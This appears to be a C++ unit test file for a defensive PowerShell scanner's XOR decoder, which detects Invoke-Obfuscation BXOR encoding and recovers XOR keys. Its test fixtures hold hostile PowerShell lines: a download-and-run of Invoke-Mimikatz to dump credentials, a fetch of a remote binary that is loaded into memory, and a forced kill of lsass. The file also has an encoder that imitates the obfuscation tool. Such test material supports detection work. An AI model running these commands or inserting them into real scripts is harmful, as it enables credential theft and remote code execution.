#include "decoders/xor.h"

#include <random>
#include <string>
#include <vector>

#include "decoders/byte_array.h"
#include "gtest/gtest.h"
#include "tests/decoders/test_util.h"

namespace sbscan::decoders {
namespace {

const char* const kClearScripts[] = {
    "Write-Host 'Hello World!' -ForegroundColor Green; Write-Host "
    "'Obfuscation Rocks!' -ForegroundColor Green",
    "IEX (New-Object Net.WebClient).DownloadString('https://raw."
    "githubusercontent.com/mattifestation/PowerSploit/master/Exfiltration/"
    "Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
    "$wc = New-Object System.Net.WebClient; $wc.Headers.Add('User-Agent',"
    "'Mozilla/5.0'); $data = $wc.DownloadData('http://10.1.2.3/a.bin'); "
    "[System.Reflection.Assembly]::Load($data) | Out-Null",
    "Get-WmiObject -Class Win32_Process | Where-Object { $_.Name -eq "
    "'lsass.exe' } | ForEach-Object { Stop-Process -Id $_.ProcessId -Force }",
};

// Invoke-Obfuscation Out-EncodedBXORCommand: the script's chars XOR'd with
// `key`, written as a decimal list in one of its syntaxes.
std::string BxorEncode(std::string_view script, int key, int syntax,
                       std::mt19937& rng) {
  std::string list;
  for (size_t i = 0; i < script.size(); ++i) {
    if (i != 0) list += (rng() % 2 ? " , " : ",");
    list += std::to_string(uint8_t(script[i]) ^ key);
  }
  char hex[8];
  std::snprintf(hex, sizeof(hex), "0x%02X", key);
  switch (syntax) {
    case 0:
      return "((" + list + ")| ForEach-Object {[Char]($_ -BXOR " + hex +
             ")}) -Join '' | IEX";
    case 1:
      return " ( [cHAR[]] ( " + list + " ) |%{[cHAR] ( $_ -BXor\"" + hex +
             "\" ) } )-JOIN''|.( $ENv:ComSPEc[4,15,25]-jOIN'')";
    default: {
      std::string delimited = list;
      for (char& c : delimited) {
        if (c == ',') c = '~';
      }
      return "-jOiN (('" + delimited + "'.SpLIt('~') |ForEach {[char]($_ "
             "-bXoR '" + hex + "')}))| InVOKE-ExpressIon";
    }
  }
}

std::vector<uint8_t> Numbers(std::string_view s) {
  std::vector<uint8_t> v;
  int cur = -1;
  for (char c : s) {
    if (c >= '0' && c <= '9') {
      cur = (cur < 0 ? 0 : cur * 10) + (c - '0');
    } else if (cur >= 0) {
      v.push_back(static_cast<uint8_t>(cur));
      cur = -1;
    }
  }
  return v;
}

TEST(XorTest, InvokeObfuscationBxor) {
  std::mt19937 rng(1);
  for (const char* script : kClearScripts) {
    for (int syntax = 0; syntax < 3; ++syntax) {
      const int key = 1 + rng() % 0x5F;  // Invoke-Obfuscation: 0x00..0x5F
      const std::string text = BxorEncode(script, key, syntax, rng);
      std::vector<XorKeyHit> hits;
      ASSERT_EQ(FindXorKeys(text, 8, &hits), 1u) << text;
      EXPECT_EQ(hits[0].key, std::string(1, char(key)));
      EXPECT_EQ(hits[0].source, XorKeySource::kLiteral);
      EXPECT_EQ(text.substr(hits[0].bxor_offset, 5).size(), 5u);
      EXPECT_EQ(text[hits[0].bxor_offset], '-');
      // The driver XORs the char-code layer with the key.
      const size_t open = text.find_first_of("0123456789");
      const size_t close = text.find_first_of(")'", open);
      std::string codes;
      for (uint8_t b : Numbers(text.substr(open, close - open + 1))) {
        codes += static_cast<char>(b);
      }
      std::string clear;
      EXPECT_EQ(ApplyXor(codes, hits[0].key, 1 << 20, &clear),
                Outcome::kDecoded);
      EXPECT_EQ(clear, script);
    }
  }
}

TEST(XorTest, RealCorpusSyntax) {
  // From Powershell-Invoke-Obfuscation-encoding-menu (record 656607).
  const std::string text =
      " ( [cHAR[]] ( 20 , 24, 5 ,125 , 117 , 19, 56,42, 112 ,18 , 63 , 55,56 "
      ",62,41,125 ) |%{[cHAR] ( $_ -BXor\"0x5d\" ) } )-JOIN''";
  std::vector<XorKeyHit> hits;
  ASSERT_EQ(FindXorKeys(text, 8, &hits), 1u);
  EXPECT_EQ(hits[0].key, "\x5d");
  EXPECT_EQ(text.substr(hits[0].key_begin, hits[0].key_end - hits[0].key_begin),
            "0x5d");
  std::string codes;
  for (uint8_t b : Numbers(text.substr(0, text.find('|')))) codes += char(b);
  std::string clear;
  ApplyXor(codes, hits[0].key, 100, &clear);
  EXPECT_EQ(clear, "IEX (New-Object ");
}

TEST(XorTest, KeyForms) {
  struct Case {
    const char* text;
    std::string key;
    XorKeySource source;
  };
  const Case cases[] = {
      {"$b = $a -bxor 0x5A", "\x5a", XorKeySource::kLiteral},
      {"$b = $a -bxor 90", "\x5a", XorKeySource::kLiteral},
      {"$b = $a -BXOR ([byte]42)", "\x2a", XorKeySource::kLiteral},
      {"$b = 0x11 -bxor $_", "\x11", XorKeySource::kLiteral},
      {"$k = 0x5a\n$out = $in | % { $_ -bxor $k }", "\x5a",
       XorKeySource::kVariable},
      {"$key=[byte]42; for($i=0;$i -lt $d.Length;$i++){$d[$i] = $d[$i] "
       "-bxor $key}",
       "\x2a", XorKeySource::kVariable},
      {"$k = '0x36'; [char]([int]$c -bxor $k)", "\x36",
       XorKeySource::kVariable},
      {"$key = [byte[]](0x13,0x37,0xC0,0xDE)\nfor ($i = 0; $i -lt $data.Length;"
       " $i++) { $data[$i] = $data[$i] -bxor $key[$i % $key.Length] }",
       "\x13\x37\xc0\xde", XorKeySource::kByteArray},
      {"$key = @(1, 2, 3, 250)\n$x[$i] -bxor $key[$i % 4]",
       "\x01\x02\x03\xfa", XorKeySource::kByteArray},
      {"$key = [System.Text.Encoding]::ASCII.GetBytes('s3cr3t')\n$out = "
       "for($i=0; $i -lt $enc.Count; $i++) { $enc[$i] -bxor "
       "$key[$i % $key.Length] }",
       "s3cr3t", XorKeySource::kGetBytes},
      {"$pass = \"Summer2024\"; $b[$i] = $key2 -bxor 3; "
       "$c = $b[$i] -bxor $pass[$i % $pass.Length]",
       "Summer2024", XorKeySource::kGetBytes},
      // Reassigned: the closest assignment before the use wins.
      {"$k = 1\n$k = 0x77\n$a -bxor $k\n$k = 3", "\x77",
       XorKeySource::kVariable},
  };
  for (const Case& c : cases) {
    std::vector<XorKeyHit> hits;
    FindXorKeys(c.text, 8, &hits);
    ASSERT_FALSE(hits.empty()) << c.text;
    const XorKeyHit& h = hits.back();
    EXPECT_EQ(h.key, c.key) << c.text;
    EXPECT_EQ(h.source, c.source) << c.text << " "
                                  << XorKeySourceName(h.source);
  }
}

TEST(XorTest, NoKeys) {
  const char* texts[] = {
      "Write-Host 'no xor here' -ForegroundColor Green",
      "$a -bxor $b",                 // unknown variables
      "$x = $data[$i] -bxor $_",     // data on both sides
      "-bxor",                       // nothing after
      "$a -bxor 300",                // not a byte
      "Get-Help about_Operators -bxorish",
  };
  for (const char* t : texts) {
    std::vector<XorKeyHit> hits;
    EXPECT_EQ(FindXorKeys(t, 8, &hits), 0u) << t;
  }
  std::vector<XorKeyHit> hits;
  EXPECT_EQ(FindXorKeys("$a -bxor 1; $b -bxor 2; $c -bxor 3", 2, &hits), 2u);
}

TEST(XorTest, ApplyXor) {
  std::string out = ">";
  EXPECT_EQ(ApplyXor("abc", "\x01\x02", 10, &out), Outcome::kDecoded);
  EXPECT_EQ(out, ">``b");
  out.clear();
  EXPECT_EQ(ApplyXor("abcdef", "k", 3, &out), Outcome::kLimitReached);
  EXPECT_EQ(out.size(), 3u);
  EXPECT_EQ(ApplyXor("abc", "", 10, &out), Outcome::kNotApplicable);
  EXPECT_EQ(ApplyXor("", "k", 10, &out), Outcome::kNotApplicable);
}

std::string Xor(std::string_view s, std::string_view key) {
  std::string out;
  ApplyXor(s, key, s.size(), &out);
  return out;
}

TEST(XorTest, RecoversSingleByteKeys) {
  int tried = 0;
  for (const char* script : kClearScripts) {
    for (int k = 1; k < 256; k += 7) {
      const std::string key(1, char(k));
      XorRecovery r;
      ASSERT_TRUE(RecoverXorKey(Xor(script, key), {}, &r))
          << k << " " << script;
      EXPECT_EQ(r.key, key);
      EXPECT_GE(r.score, 0.5);
      ++tried;
    }
  }
  EXPECT_GT(tried, 100);
}

TEST(XorTest, RecoversUtf16leKeys) {
  for (const char* script : kClearScripts) {
    const std::string utf16 = testing::Utf16le(script);
    for (const std::string& key : {std::string("\x5a"), std::string("K3")}) {
      XorRecovery r;
      ASSERT_TRUE(RecoverXorKey(Xor(utf16, key), {}, &r)) << script;
      EXPECT_EQ(Xor(Xor(utf16, key), r.key), utf16) << script;
    }
  }
}

TEST(XorTest, RecoversRepeatingKeys) {
  std::mt19937 rng(5);
  std::string long_script;
  for (const char* s : kClearScripts) (long_script += s) += "\n";
  for (size_t len = 2; len <= 8; ++len) {
    for (int t = 0; t < 5; ++t) {
      std::string key(len, '\0');
      for (char& c : key) c = static_cast<char>(1 + rng() % 255);
      XorRecovery r;
      ASSERT_TRUE(RecoverXorKey(Xor(long_script, key), {}, &r)) << len;
      // Equivalent keys decode the same text.
      EXPECT_EQ(Xor(Xor(long_script, key), r.key), long_script) << len;
    }
  }
}

TEST(XorTest, ClearTextHasNoKey) {
  XorRecovery r;
  for (const char* script : kClearScripts) {
    EXPECT_FALSE(RecoverXorKey(script, {}, &r));
  }
  EXPECT_FALSE(RecoverXorKey("short", {}, &r));
}

TEST(XorTest, RandomBuffersHaveNoKey) {
  std::mt19937 rng(2024);
  int false_positives = 0;
  for (int t = 0; t < 1000; ++t) {
    std::string b(24 + rng() % 4073, '\0');
    for (char& c : b) c = static_cast<char>(rng());
    XorRecovery r;
    if (RecoverXorKey(b, {}, &r)) ++false_positives;
  }
  EXPECT_EQ(false_positives, 0);
  // Random printable text (e.g. Base64) XOR'd with a key: no PowerShell.
  for (int t = 0; t < 200; ++t) {
    std::string b(64 + rng() % 512, '\0');
    for (char& c : b) c = static_cast<char>(0x20 + rng() % 95);
    XorRecovery r;
    if (RecoverXorKey(Xor(b, "\x21"), {}, &r)) ++false_positives;
  }
  EXPECT_EQ(false_positives, 0);
}

}  // namespace
}  // namespace sbscan::decoders
